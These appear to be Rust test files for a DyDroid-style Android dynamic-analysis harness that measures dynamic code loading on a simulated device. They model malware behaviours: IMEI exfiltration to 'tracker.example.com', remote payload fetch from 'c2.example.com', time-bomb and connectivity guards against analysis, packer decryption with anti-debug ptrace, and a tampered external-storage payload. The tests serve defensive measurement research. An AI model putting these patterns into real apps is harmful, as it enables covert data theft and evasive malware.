            "dalvik.system.SecureDexClassLoader",
            "loadClass",
            "(Ljava/lang/String;)Ljava/lang/Class;",
        ),
        vec![4, 5],
    );
    m.move_result(6);
    m.invoke_virtual(
        MethodRef::new("java.lang.Class", "newInstance", "()Ljava/lang/Object;"),
        vec![6],
    );
    m.move_result(7);
    m.invoke_virtual(MethodRef::new("com.plugin.Module", "run", "()V"), vec![7]);
    m.ret_void();
    Apk::build(manifest, b.build())
}

const STAGED: &str = "/mnt/sdcard/plugins/module.jar";

#[test]
fn genuine_payload_loads_and_runs() {
    let genuine = payload(42).to_bytes();
    let apk = hardened_app("com.hardened.app", STAGED, crc32(&genuine));
    let mut device = Device::new(DeviceConfig::default());
    device
        .fs
        .write_system(STAGED, genuine, Owner::app("com.hardened.app".to_string()));
    device.install(&apk.to_bytes()).unwrap();
    let proc = device.launch("com.hardened.app").unwrap();
    assert!(proc.alive, "log: {:?}", device.log.events());
    assert_eq!(
        proc.statics
            .get(&("probe.G".to_string(), "marker".to_string())),
        Some(&Value::Int(42))
    );
    // The verified load is still logged and intercepted like any DCL.
    let events: Vec<_> = device.log.dcl_events().collect();
    assert_eq!(events.len(), 1);
    assert!(events[0].success);
    assert_eq!(device.hooks.intercepted().len(), 1);
}

#[test]
fn tampered_payload_is_refused() {
    // Pin to the genuine payload's checksum...
    let genuine = payload(42).to_bytes();
    let apk = hardened_app("com.hardened.app", STAGED, crc32(&genuine));
    // ...but an attacker has swapped the file on external storage.
    let attacker = payload(1337).to_bytes();
    let mut device = Device::new(DeviceConfig::default());
    device
        .fs
        .write_system(STAGED, attacker, Owner::app("com.evil.app".to_string()));
    device.install(&apk.to_bytes()).unwrap();
    let proc = device.launch("com.hardened.app").unwrap();

    // The app refuses to run the attacker's code: SecurityException.
    assert!(!proc.alive, "verification must abort the load");
    assert!(device.log.crashed("com.hardened.app"));
    assert_eq!(
        proc.statics
            .get(&("probe.G".to_string(), "marker".to_string())),
        None,
        "attacker code must never execute"
    );
    // The refused load is visible to the measurement (success = false)...
    let events: Vec<_> = device.log.dcl_events().collect();
    assert_eq!(events.len(), 1);
    assert!(!events[0].success);
    // ...and nothing was admitted into the process.
    assert_eq!(proc.dynamic_space_count(), 0);
}

#[test]
fn missing_file_raises_io_exception() {
    let apk = hardened_app("com.hardened.app", STAGED, 0xDEAD_BEEF);
    let mut device = Device::new(DeviceConfig::default());
    device.install(&apk.to_bytes()).unwrap();
    let proc = device.launch("com.hardened.app").unwrap();
    assert!(!proc.alive);
    assert!(device.log.events().iter().any(|e| matches!(
        e,
        dydroid_avm::Event::Crash { reason, .. } if reason.contains("IOException")
    )));
}

#[test]
fn secure_loader_counts_for_the_static_filter() {
    let apk = hardened_app("com.hardened.app", STAGED, 1);
    let filter = dydroid_analysis::DclFilter::scan(&apk.classes().unwrap());
    assert!(filter.has_dex_dcl);
}

#[test]
fn vanilla_loader_still_executes_tampered_code() {
    // The contrast case: the same scenario with the ordinary loader runs
    // the attacker's payload — exactly the Table IX vulnerability.
    let pkg = "com.unhardened.app";
    let mut manifest = Manifest::new(pkg);
    manifest.min_sdk = 14;
    manifest.add_permission(dydroid_dex::manifest::WRITE_EXTERNAL_STORAGE);
    manifest
        .components
        .push(Component::main_activity(format!("{pkg}.Main")));
    let mut b = DexBuilder::new();
    let c = b.class(format!("{pkg}.Main"), "android.app.Activity");
    let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
    m.registers(12);
    dydroid_workload::emit::dex_load_and_run(
        m,
        STAGED,
        &format!("/data/data/{pkg}/odex"),
        "com.plugin.Module",
        "run",
    );
    m.ret_void();
    let apk = Apk::build(manifest, b.build());

    let mut device = Device::new(DeviceConfig::default());
    device.fs.write_system(
        STAGED,
        payload(1337).to_bytes(),
        Owner::app("com.evil.app".to_string()),
    );
    device.install(&apk.to_bytes()).unwrap();
    let proc = device.launch(pkg).unwrap();
    assert!(proc.alive);
    assert_eq!(
        proc.statics
            .get(&("probe.G".to_string(), "marker".to_string())),
        Some(&Value::Int(1337)),
        "the vanilla loader happily runs attacker code"
    );
}
