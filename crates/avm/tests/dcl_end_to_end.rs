//! End-to-end dynamic-analysis scenarios: apps whose *bytecode* performs
//! dynamic code loading, executed on the instrumented simulated device.
//!
//! These are the behaviours DyDroid's measurement is built around:
//! ad-SDK-style local DCL with temporary files, remote-fetch DCL (the
//! Google Play policy violation), JNI native loading, packer decrypt
//! chains, and environment-triggered loading.

use dydroid_avm::events::{BehaviorEvent, DclKind, Event};
use dydroid_avm::{Device, DeviceConfig, Value};
use dydroid_dex::builder::DexBuilder;
use dydroid_dex::native::{Arch, NativeFunction, NativeInsn, NativeLibrary};
use dydroid_dex::{AccessFlags, Apk, CmpKind, Component, DexFile, Manifest, MethodRef};

/// Builds a payload DEX with a class `com.payload.P` whose `run()` method
/// stores `marker` into the static field `com.payload.G.marker`.
fn payload_dex(marker: i64) -> DexFile {
    let mut b = DexBuilder::new();
    let c = b.class("com.payload.P", "java.lang.Object");
    c.default_constructor();
    let m = c.method("run", "()V", AccessFlags::PUBLIC);
    m.registers(4);
    m.const_int(1, marker);
    m.sput(
        1,
        dydroid_dex::FieldRef::new("com.payload.G", "marker", "I"),
    );
    m.ret_void();
    b.build()
}

/// Emits bytecode that loads `dex_path` with `DexClassLoader`, then
/// reflectively instantiates `com.payload.P` and calls `run()`.
fn emit_load_and_run(m: &mut dydroid_dex::builder::MethodBuilder, dex_path: &str, odex_dir: &str) {
    m.registers(8);
    m.const_str(1, dex_path);
    m.const_str(2, odex_dir);
    m.new_instance(3, "dalvik.system.DexClassLoader");
    m.invoke_direct(
        MethodRef::new(
            "dalvik.system.DexClassLoader",
            "<init>",
            "(Ljava/lang/String;Ljava/lang/String;)V",
        ),
        vec![3, 1, 2],
    );
    m.const_str(4, "com.payload.P");
    m.invoke_virtual(
        MethodRef::new(
            "dalvik.system.DexClassLoader",
            "loadClass",
            "(Ljava/lang/String;)Ljava/lang/Class;",
        ),
        vec![3, 4],
    );
    m.move_result(5);
    m.invoke_virtual(
        MethodRef::new("java.lang.Class", "newInstance", "()Ljava/lang/Object;"),
        vec![5],
    );
    m.move_result(6);
    m.invoke_virtual(MethodRef::new("com.payload.P", "run", "()V"), vec![6]);
    m.ret_void();
}

/// Emits bytecode that copies the asset `name` to `dst` through the
/// stream API (AssetManager → InputStream → Buffer → FileOutputStream).
fn emit_asset_to_file(m: &mut dydroid_dex::builder::MethodBuilder, asset: &str, dst: &str) {
    m.const_str(1, asset);
    m.invoke_static(
        MethodRef::new(
            "android.content.res.AssetManager",
            "open",
            "(Ljava/lang/String;)Ljava/io/InputStream;",
        ),
        vec![1],
    );
    m.move_result(2); // InputStream
    m.new_instance(3, "java.io.Buffer");
    m.invoke_direct(MethodRef::new("java.io.Buffer", "<init>", "()V"), vec![3]);
    m.invoke_virtual(
        MethodRef::new("java.io.InputStream", "read", "(Ljava/io/Buffer;)I"),
        vec![2, 3],
    );
    m.new_instance(4, "java.io.FileOutputStream");
    m.const_str(5, dst);
    m.invoke_direct(
        MethodRef::new(
            "java.io.FileOutputStream",
            "<init>",
            "(Ljava/lang/String;)V",
        ),
        vec![4, 5],
    );
    m.invoke_virtual(
        MethodRef::new("java.io.FileOutputStream", "write", "(Ljava/io/Buffer;)V"),
        vec![4, 3],
    );
}

/// Emits bytecode that downloads `url` to `dst` through the stream API.
fn emit_download_to_file(m: &mut dydroid_dex::builder::MethodBuilder, url: &str, dst: &str) {
    m.new_instance(1, "java.net.URL");
    m.const_str(2, url);
    m.invoke_direct(
        MethodRef::new("java.net.URL", "<init>", "(Ljava/lang/String;)V"),
        vec![1, 2],
    );
    m.invoke_virtual(
        MethodRef::new(
            "java.net.URL",
            "openConnection",
            "()Ljava/net/URLConnection;",
        ),
        vec![1],
    );
    m.move_result(2); // connection
    m.invoke_virtual(
        MethodRef::new(
            "java.net.HttpURLConnection",
            "getInputStream",
            "()Ljava/io/InputStream;",
        ),
        vec![2],
    );
    m.move_result(3); // stream
    m.new_instance(4, "java.io.Buffer");
    m.invoke_direct(MethodRef::new("java.io.Buffer", "<init>", "()V"), vec![4]);
    m.invoke_virtual(
        MethodRef::new("java.io.InputStream", "read", "(Ljava/io/Buffer;)I"),
        vec![3, 4],
    );
    m.new_instance(5, "java.io.FileOutputStream");
    m.const_str(6, dst);
    m.invoke_direct(
        MethodRef::new(
            "java.io.FileOutputStream",
            "<init>",
            "(Ljava/lang/String;)V",
        ),
        vec![5, 6],
    );
    m.invoke_virtual(
        MethodRef::new("java.io.FileOutputStream", "write", "(Ljava/io/Buffer;)V"),
        vec![5, 4],
    );
}

#[test]
fn ad_sdk_local_dcl_with_temp_file() {
    // An app bundling an ad-SDK-like library: the SDK stages a DEX payload
    // from an asset into cache/, loads it, then deletes the temp file.
    let pkg = "com.example.game";
    let staged = format!("/data/data/{pkg}/cache/ad_payload.dex");

    let mut manifest = Manifest::new(pkg);
    manifest
        .components
        .push(Component::main_activity(format!("{pkg}.Main")));

    let mut b = DexBuilder::new();
    {
        let c = b.class(format!("{pkg}.Main"), "android.app.Activity");
        let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
        m.registers(4);
        // The developer's activity merely calls the third-party SDK.
        m.invoke_static(
            MethodRef::new("com.mobiads.sdk.AdLoader", "init", "()V"),
            vec![],
        );
        m.ret_void();
    }
    {
        // Third-party SDK class — note the foreign package name.
        let c = b.class("com.mobiads.sdk.AdLoader", "java.lang.Object");
        let m = c.method("init", "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
        m.registers(8);
        emit_asset_to_file(m, "ad_payload.bin", &staged);
        emit_load_and_run(m, &staged, "/data/data/com.example.game/odex");
        // ...but the SDK also deletes its temporary payload afterwards.
        // (We re-enter after ret_void — rebuild the tail without ret.)
    }
    // Rebuild: emit_load_and_run ends with ret_void, so the delete has to
    // come before. Simpler: separate deleter method invoked by Main? For
    // this test the suppression hook is checked via a manual delete below.
    let classes = b.build();

    let mut apk = Apk::build(manifest, classes);
    apk.put("assets/ad_payload.bin", payload_dex(7).to_bytes());

    let mut device = Device::new(DeviceConfig::default());
    device.install(&apk.to_bytes()).unwrap();
    let mut proc = device.launch(pkg).unwrap();
    assert!(proc.alive, "app must not crash: {:?}", device.log.events());

    // The DCL event was recorded with third-party call-site attribution.
    let dcl: Vec<_> = device.log.dcl_events().collect();
    assert_eq!(dcl.len(), 1);
    assert_eq!(dcl[0].kind, DclKind::DexClassLoader);
    assert_eq!(dcl[0].path, staged);
    assert_eq!(dcl[0].call_site_class, "com.mobiads.sdk.AdLoader");
    assert!(dcl[0].success);

    // The payload actually ran: the marker static was set in-process.
    assert_eq!(
        proc.statics
            .get(&("com.payload.G".to_string(), "marker".to_string())),
        Some(&Value::Int(7))
    );

    // The binary was intercepted and is NOT remote (asset origin).
    assert_eq!(device.hooks.intercepted().len(), 1);
    assert!(!device.hooks.flow.is_remote(&staged));

    // The SDK's cleanup delete is silently suppressed.
    assert!(device.app_delete(pkg, &staged));
    assert!(
        device.fs.exists(&staged),
        "mutual exclusion must keep the file"
    );

    // An odex copy was produced.
    assert!(device
        .fs
        .exists("/data/data/com.example.game/odex/ad_payload.dex.odex"));
    assert_eq!(proc.dynamic_space_count(), 1);
    let _ = &mut proc;
}

#[test]
fn remote_fetch_dcl_flagged_by_download_tracker() {
    let pkg = "com.classicalmuseumad.cnad";
    let staged = format!("/data/data/{pkg}/files/update.jar");
    let url = "http://mobads.baidu.com/ads/pa/update.jar";

    let mut manifest = Manifest::new(pkg);
    manifest
        .components
        .push(Component::main_activity(format!("{pkg}.Main")));
    manifest.add_permission(dydroid_dex::manifest::INTERNET);

    let mut b = DexBuilder::new();
    {
        let c = b.class(format!("{pkg}.Main"), "android.app.Activity");
        let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
        m.registers(4);
        m.invoke_static(
            MethodRef::new("com.baidu.mobads.RemoteLoader", "fetch", "()V"),
            vec![],
        );
        m.ret_void();
    }
    {
        let c = b.class("com.baidu.mobads.RemoteLoader", "java.lang.Object");
        let m = c.method("fetch", "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
        m.registers(8);
        emit_download_to_file(m, url, &staged);
        emit_load_and_run(m, &staged, "/data/data/com.classicalmuseumad.cnad/odex");
    }
    let apk = Apk::build(manifest, b.build());

    let mut device = Device::new(DeviceConfig::default());
    device.net.host(
        "mobads.baidu.com",
        "/ads/pa/update.jar",
        payload_dex(11).to_bytes(),
    );
    device.install(&apk.to_bytes()).unwrap();
    let proc = device.launch(pkg).unwrap();
    assert!(proc.alive, "log: {:?}", device.log.events());

    // Remote provenance: URL → ... → File path exists in the flow graph.
    assert!(device.hooks.flow.is_remote(&staged));
    assert_eq!(
        device.hooks.flow.url_sources(&staged),
        vec![url.to_string()]
    );

    // Entity: a Baidu SDK class, not the app package.
    let dcl: Vec<_> = device.log.dcl_events().collect();
    assert_eq!(dcl[0].call_site_class, "com.baidu.mobads.RemoteLoader");
    assert!(!dcl[0].call_site_class.starts_with(pkg));
}

#[test]
fn remote_fetch_fails_gracefully_when_server_disabled() {
    let pkg = "com.example.remote";
    let staged = format!("/data/data/{pkg}/files/p.dex");
    let url = "http://c2.example.com/p.dex";

    let mut manifest = Manifest::new(pkg);
    manifest
        .components
        .push(Component::main_activity(format!("{pkg}.Main")));

    let mut b = DexBuilder::new();
    let c = b.class(format!("{pkg}.Main"), "android.app.Activity");
    let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
    m.registers(8);
    emit_download_to_file(m, url, &staged);
    m.ret_void();
    let apk = Apk::build(manifest, b.build());

    let mut device = Device::new(DeviceConfig::default());
    device
        .net
        .host("c2.example.com", "/p.dex", payload_dex(1).to_bytes());
    device.net.set_enabled("c2.example.com", false); // Bouncer-evasion switch
    device.install(&apk.to_bytes()).unwrap();
    let proc = device.launch(pkg).unwrap();

    // The fetch throws an IOException, crashing onCreate — and no DCL
    // event is recorded. (The paper's App_L guards this; an unguarded app
    // simply crashes, contributing to the Crash row of Table II.)
    assert!(!proc.alive);
    assert!(device.log.crashed(pkg));
    assert_eq!(device.log.dcl_events().count(), 0);
}

#[test]
fn native_load_library_runs_jni_onload() {
    let pkg = "com.example.native";
    let mut manifest = Manifest::new(pkg);
    manifest
        .components
        .push(Component::main_activity(format!("{pkg}.Main")));

    let mut b = DexBuilder::new();
    let c = b.class(format!("{pkg}.Main"), "android.app.Activity");
    let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
    m.registers(4);
    m.const_str(1, "hooker");
    m.invoke_static(
        MethodRef::new("java.lang.System", "loadLibrary", "(Ljava/lang/String;)V"),
        vec![1],
    );
    m.ret_void();

    let lib =
        NativeLibrary::new("libhooker.so", Arch::Arm).with_function(NativeFunction::exported(
            "JNI_OnLoad",
            vec![
                NativeInsn::Syscall {
                    name: "setuid".to_string(),
                    arg: None,
                },
                NativeInsn::Syscall {
                    name: "ptrace".to_string(),
                    arg: Some("com.tencent.mm".to_string()),
                },
                NativeInsn::Ret,
            ],
        ));

    let mut apk = Apk::build(manifest, b.build());
    apk.put("lib/armeabi/libhooker.so", lib.to_bytes());

    let mut device = Device::new(DeviceConfig::default());
    device.install(&apk.to_bytes()).unwrap();
    let proc = device.launch(pkg).unwrap();
    assert!(proc.alive, "log: {:?}", device.log.events());

    let dcl: Vec<_> = device.log.dcl_events().collect();
    assert_eq!(dcl.len(), 1);
    assert_eq!(dcl[0].kind, DclKind::NativeLoadLibrary);
    assert!(dcl[0].path.ends_with("libhooker.so"));

    let behaviors: Vec<_> = device.log.behaviors(pkg).collect();
    assert!(behaviors.contains(&&BehaviorEvent::RootAttempt));
    assert!(behaviors.iter().any(
        |b| matches!(b, BehaviorEvent::PtraceAttach { target } if target == "com.tencent.mm")
    ));
}

#[test]
fn system_library_loads_are_not_logged() {
    let pkg = "com.example.sys";
    let mut manifest = Manifest::new(pkg);
    manifest
        .components
        .push(Component::main_activity(format!("{pkg}.Main")));

    let mut b = DexBuilder::new();
    let c = b.class(format!("{pkg}.Main"), "android.app.Activity");
    let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
    m.registers(4);
    m.const_str(1, "ssl");
    m.invoke_static(
        MethodRef::new("java.lang.System", "loadLibrary", "(Ljava/lang/String;)V"),
        vec![1],
    );
    m.ret_void();
    let apk = Apk::build(manifest, b.build());

    let mut device = Device::new(DeviceConfig::default());
    device.install_system_library(&NativeLibrary::new("libssl.so", Arch::Arm));
    device.install(&apk.to_bytes()).unwrap();
    let proc = device.launch(pkg).unwrap();
    assert!(proc.alive);
    // Trusted system binary: no DCL event, no interception.
    assert_eq!(device.log.dcl_events().count(), 0);
    assert!(device.hooks.intercepted().is_empty());
}

#[test]
fn packer_container_decrypts_and_reconstructs_lifecycle() {
    // A Bangcle/Ijiami-style packed app: classes.dex holds only the
    // container Application class; the real bytecode lives XOR-encrypted in
    // assets; a native stub decrypts it; the container loads it and starts
    // the original main activity.
    let pkg = "com.example.packed";
    let key = "s3cr3t";
    let enc_asset = "enc.bin";
    let enc_path = format!("/data/data/{pkg}/files/enc.bin");
    let dec_path = format!("/data/data/{pkg}/files/dec.dex");

    // Original app code (becomes the encrypted payload).
    let original = {
        let mut b = DexBuilder::new();
        let c = b.class(format!("{pkg}.RealMain"), "android.app.Activity");
        c.default_constructor();
        let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
        m.registers(4);
        m.const_int(1, 99);
        m.sput(
            1,
            dydroid_dex::FieldRef::new("com.payload.G", "marker", "I"),
        );
        m.ret_void();
        b.build()
    };
    let encrypted = dydroid_avm::nativerun::xor_bytes(&original.to_bytes(), key.as_bytes());

    // Container dex: the Application subclass + a native decrypt method.
    let container = {
        let mut b = DexBuilder::new();
        let c = b.class(format!("{pkg}.StubApp"), "android.app.Application");
        c.default_constructor();
        c.method("decrypt", "()V", AccessFlags::PUBLIC | AccessFlags::NATIVE);
        let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
        m.registers(8);
        // 1. Load the native decrypt stub.
        m.const_str(1, "shield");
        m.invoke_static(
            MethodRef::new("java.lang.System", "loadLibrary", "(Ljava/lang/String;)V"),
            vec![1],
        );
        // 2. Stage the encrypted asset to internal storage.
        emit_asset_to_file(m, enc_asset, &enc_path);
        // 3. Run the native decryptor.
        m.invoke_virtual(
            MethodRef::new(format!("{pkg}.StubApp"), "decrypt", "()V"),
            vec![0],
        );
        // 4. Load the decrypted DEX and start the real activity.
        m.const_str(1, &dec_path);
        m.const_str(2, format!("/data/data/{pkg}/odex"));
        m.new_instance(3, "dalvik.system.DexClassLoader");
        m.invoke_direct(
            MethodRef::new(
                "dalvik.system.DexClassLoader",
                "<init>",
                "(Ljava/lang/String;Ljava/lang/String;)V",
            ),
            vec![3, 1, 2],
        );
        m.const_str(4, format!("{pkg}.RealMain"));
        m.invoke_virtual(
            MethodRef::new(
                "dalvik.system.DexClassLoader",
                "loadClass",
                "(Ljava/lang/String;)Ljava/lang/Class;",
            ),
            vec![3, 4],
        );
        m.move_result(5);
        m.invoke_virtual(
            MethodRef::new("java.lang.Class", "newInstance", "()Ljava/lang/Object;"),
            vec![5],
        );
        m.move_result(6);
        m.invoke_virtual(
            MethodRef::new(format!("{pkg}.RealMain"), "onCreate", "()V"),
            vec![6],
        );
        m.ret_void();
        b.build()
    };

    let stub =
        NativeLibrary::new("libshield.so", Arch::Arm).with_function(NativeFunction::exported(
            "decrypt",
            vec![
                NativeInsn::Syscall {
                    name: "ptrace".to_string(),
                    arg: Some("self".to_string()), // anti-debug
                },
                NativeInsn::Syscall {
                    name: "xor_decrypt".to_string(),
                    arg: Some(format!("{enc_path}:{dec_path}:{key}")),
                },
                NativeInsn::Ret,
            ],
        ));

    let mut manifest = Manifest::new(pkg);
    manifest.application_class = Some(format!("{pkg}.StubApp"));
    // The original components stay declared but are absent from classes.dex
    // — the obfuscation detector's second rule.
    manifest
        .components
        .push(Component::main_activity(format!("{pkg}.RealMain")));

    let mut apk = Apk::build(manifest, container);
    apk.put(format!("assets/{enc_asset}"), encrypted);
    apk.put("lib/armeabi/libshield.so", stub.to_bytes());

    let mut device = Device::new(DeviceConfig::default());
    device.install(&apk.to_bytes()).unwrap();
    let proc = device.launch(pkg).unwrap();
    assert!(proc.alive, "log: {:?}", device.log.events());

    // The payload ran: the real activity set its marker (twice actually:
    // once from the container, once from the regular launch path finding
    // RealMain in the loaded space).
    assert_eq!(
        proc.statics
            .get(&("com.payload.G".to_string(), "marker".to_string())),
        Some(&Value::Int(99))
    );

    // Both the native stub and the decrypted DEX were captured.
    let kinds: Vec<DclKind> = device.log.dcl_events().map(|d| d.kind).collect();
    assert!(kinds.contains(&DclKind::NativeLoadLibrary));
    assert!(kinds.contains(&DclKind::DexClassLoader));
    let anti_debug = device
        .log
        .behaviors(pkg)
        .any(|b| matches!(b, BehaviorEvent::PtraceAttach { target } if target == "self"));
    assert!(anti_debug);

    // The decrypted payload is local, not remote.
    assert!(!device.hooks.flow.is_remote(&dec_path));
}

#[test]
fn time_bomb_guards_loading() {
    // Malware that only loads its payload when the system time is past the
    // release date — the Table VIII "system time" configuration.
    let pkg = "com.example.timebomb";
    let release_ms: i64 = 1_470_000_000_000; // mid-2016
    let staged = format!("/data/data/{pkg}/files/evil.dex");

    let mut manifest = Manifest::new(pkg);
    manifest
        .components
        .push(Component::main_activity(format!("{pkg}.Main")));

    let mut b = DexBuilder::new();
    let c = b.class(format!("{pkg}.Main"), "android.app.Activity");
    let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
    m.registers(8);
    m.invoke_static(
        MethodRef::new("java.lang.System", "currentTimeMillis", "()J"),
        vec![],
    );
    m.move_result(1);
    m.const_int(2, release_ms);
    let skip = m.label();
    m.if_cmp(CmpKind::Lt, 1, 2, skip); // now < release → don't load
    emit_asset_to_file(m, "evil.bin", &staged);
    emit_load_and_run(m, &staged, "/data/data/com.example.timebomb/odex");
    m.bind(skip);
    m.ret_void();
    let classes = b.build();

    let mut apk = Apk::build(manifest, classes);
    apk.put("assets/evil.bin", payload_dex(3).to_bytes());
    let apk_bytes = apk.to_bytes();

    // Config A: time after release → loads.
    let mut device = Device::new(DeviceConfig::default());
    device.install(&apk_bytes).unwrap();
    let proc = device.launch(pkg).unwrap();
    assert!(proc.alive);
    assert_eq!(device.log.dcl_events().count(), 1);

    // Config B: time set before the release date → hidden.
    let config = DeviceConfig {
        time_ms: release_ms - 86_400_000,
        ..Default::default()
    };
    let mut device = Device::new(config);
    device.install(&apk_bytes).unwrap();
    let proc = device.launch(pkg).unwrap();
    assert!(proc.alive);
    assert_eq!(device.log.dcl_events().count(), 0);
}

#[test]
fn vulnerable_app_loads_from_other_apps_internal_storage() {
    // The paper's second vulnerability variant: an app loading libCore.so
    // from com.adobe.air's internal storage.
    let victim = "air.com.fire.ane.test.bubblecrazy";
    let provider = "com.adobe.air";
    let lib_path = format!("/data/data/{provider}/files/libCore.so");

    // The provider app installs its library into its own internal storage.
    let core = NativeLibrary::new("libCore.so", Arch::Arm).with_function(NativeFunction::exported(
        "JNI_OnLoad",
        vec![NativeInsn::Ret],
    ));

    let mut manifest = Manifest::new(victim);
    manifest
        .components
        .push(Component::main_activity(format!("{victim}.Main")));
    let mut b = DexBuilder::new();
    let c = b.class(format!("{victim}.Main"), "android.app.Activity");
    let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
    m.registers(4);
    m.const_str(1, &lib_path);
    m.invoke_static(
        MethodRef::new("java.lang.System", "load", "(Ljava/lang/String;)V"),
        vec![1],
    );
    m.ret_void();
    let apk = Apk::build(manifest, b.build());

    let mut device = Device::new(DeviceConfig::default());
    device.fs.write_system(
        &lib_path,
        core.to_bytes(),
        dydroid_avm::Owner::app(provider),
    );
    device.install(&apk.to_bytes()).unwrap();
    let proc = device.launch(victim).unwrap();
    assert!(proc.alive, "log: {:?}", device.log.events());

    let dcl: Vec<_> = device.log.dcl_events().collect();
    assert_eq!(dcl.len(), 1);
    assert_eq!(dcl[0].kind, DclKind::NativeLoad);
    assert_eq!(dcl[0].path, lib_path);
    // The vulnerability classifier (analysis crate) keys off this path
    // being inside a different package's internal storage.
    assert_eq!(
        dydroid_avm::paths::internal_owner(&dcl[0].path),
        Some(provider)
    );
}

#[test]
fn connectivity_guard_blocks_exfiltration_offline() {
    let pkg = "com.example.exfil";
    let mut manifest = Manifest::new(pkg);
    manifest
        .components
        .push(Component::main_activity(format!("{pkg}.Main")));

    let mut b = DexBuilder::new();
    let c = b.class(format!("{pkg}.Main"), "android.app.Activity");
    let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
    m.registers(8);
    m.invoke_static(
        MethodRef::new("android.net.ConnectivityManager", "isConnected", "()Z"),
        vec![],
    );
    m.move_result(1);
    let skip = m.label();
    m.if_zero(CmpKind::Eq, 1, skip);
    // Online: read IMEI and post it.
    m.invoke_static(
        MethodRef::new(
            "android.telephony.TelephonyManager",
            "getDeviceId",
            "()Ljava/lang/String;",
        ),
        vec![],
    );
    m.move_result(2);
    m.new_instance(3, "java.net.URL");
    m.const_str(4, "http://tracker.example.com/collect");
    m.invoke_direct(
        MethodRef::new("java.net.URL", "<init>", "(Ljava/lang/String;)V"),
        vec![3, 4],
    );
    m.invoke_virtual(
        MethodRef::new(
            "java.net.URL",
            "openConnection",
            "()Ljava/net/URLConnection;",
        ),
        vec![3],
    );
    m.move_result(5);
    m.invoke_virtual(
        MethodRef::new(
            "java.net.HttpURLConnection",
            "getOutputStream",
            "()Ljava/io/OutputStream;",
        ),
        vec![5],
    );
    m.move_result(6);
    m.invoke_virtual(
        MethodRef::new("java.io.OutputStream", "write", "(Ljava/lang/String;)V"),
        vec![6, 2],
    );
    m.bind(skip);
    m.ret_void();
    let apk = Apk::build(manifest, b.build());
    let apk_bytes = apk.to_bytes();

    // Online run: exfiltration observed.
    let mut device = Device::new(DeviceConfig::default());
    device.install(&apk_bytes).unwrap();
    device.launch(pkg).unwrap();
    let sent = device
        .log
        .events()
        .iter()
        .any(|e| matches!(e, Event::NetSend { domain, .. } if domain == "tracker.example.com"));
    assert!(sent);

    // Offline run (airplane, WiFi off): behaviour hidden, no crash.
    let config = DeviceConfig {
        airplane_mode: true,
        wifi_on: false,
        ..Default::default()
    };
    let mut device = Device::new(config);
    device.install(&apk_bytes).unwrap();
    let proc = device.launch(pkg).unwrap();
    assert!(proc.alive);
    let sent = device
        .log
        .events()
        .iter()
        .any(|e| matches!(e, Event::NetSend { .. }));
    assert!(!sent);
}
