//! Property tests: the interpreter must be total over *arbitrary valid
//! bytecode* — hostile apps can contain any instruction sequence, and the
//! harness has to survive 46K of them. Every run must terminate (fuel),
//! never panic, and leave the device in a consistent state.

use dydroid_avm::{Device, DeviceConfig, Process};
use dydroid_dex::{
    AccessFlags, BinOp, ClassDef, CmpKind, DexFile, FieldRef, Instruction, InvokeKind, Manifest,
    Method, MethodRef, MethodSig,
};
use proptest::prelude::*;

const REGS: u16 = 8;

fn reg() -> impl Strategy<Value = u16> {
    0..REGS
}

fn cmp() -> impl Strategy<Value = CmpKind> {
    prop::sample::select(vec![
        CmpKind::Eq,
        CmpKind::Ne,
        CmpKind::Lt,
        CmpKind::Ge,
        CmpKind::Gt,
        CmpKind::Le,
    ])
}

fn binop() -> impl Strategy<Value = BinOp> {
    prop::sample::select(vec![
        BinOp::Add,
        BinOp::Sub,
        BinOp::Mul,
        BinOp::Div,
        BinOp::Rem,
        BinOp::Xor,
        BinOp::And,
        BinOp::Or,
    ])
}

/// Methods the fuzzed code may call: a mix of framework intrinsics (some
/// throwing, some not) and an app-local helper.
fn callee() -> impl Strategy<Value = (InvokeKind, MethodRef, usize)> {
    prop::sample::select(vec![
        (
            InvokeKind::Static,
            MethodRef::new("java.lang.System", "currentTimeMillis", "()J"),
            0,
        ),
        (
            InvokeKind::Static,
            MethodRef::new(
                "android.telephony.TelephonyManager",
                "getDeviceId",
                "()Ljava/lang/String;",
            ),
            0,
        ),
        (
            InvokeKind::Static,
            MethodRef::new("java.lang.System", "loadLibrary", "(Ljava/lang/String;)V"),
            1,
        ),
        (
            InvokeKind::Static,
            MethodRef::new("fuzz.App", "helper", "(I)I"),
            1,
        ),
        (
            InvokeKind::Static,
            MethodRef::new("fuzz.Missing", "ghost", "()V"),
            0,
        ),
        (
            InvokeKind::Virtual,
            MethodRef::new("java.io.File", "delete", "()Z"),
            1,
        ),
        (
            InvokeKind::Virtual,
            MethodRef::new(
                "java.lang.String",
                "concat",
                "(Ljava/lang/String;)Ljava/lang/String;",
            ),
            2,
        ),
    ])
}

fn instruction(max_target: u32) -> impl Strategy<Value = Instruction> {
    let field = FieldRef::new("fuzz.App", "state", "I");
    prop_oneof![
        Just(Instruction::Nop),
        (reg(), any::<i64>()).prop_map(|(dst, value)| Instruction::Const { dst, value }),
        (reg(), "[ -~]{0,24}").prop_map(|(dst, value)| Instruction::ConstString { dst, value }),
        reg().prop_map(|dst| Instruction::ConstNull { dst }),
        (reg(), reg()).prop_map(|(dst, src)| Instruction::Move { dst, src }),
        reg().prop_map(|dst| Instruction::MoveResult { dst }),
        (
            reg(),
            prop::sample::select(vec![
                "java.io.File",
                "java.io.Buffer",
                "java.net.URL",
                "dalvik.system.DexClassLoader",
                "fuzz.App",
                "fuzz.Ghost",
            ])
        )
            .prop_map(|(dst, class)| Instruction::NewInstance {
                dst,
                class: class.to_string()
            }),
        (callee(), prop::collection::vec(reg(), 0..4)).prop_map(|((kind, method, argc), regs)| {
            let args: Vec<u16> = regs.into_iter().take(argc.max(1)).collect();
            Instruction::Invoke { kind, method, args }
        }),
        (reg(), reg()).prop_map({
            let field = field.clone();
            move |(dst, obj)| Instruction::IGet {
                dst,
                obj,
                field: field.clone(),
            }
        }),
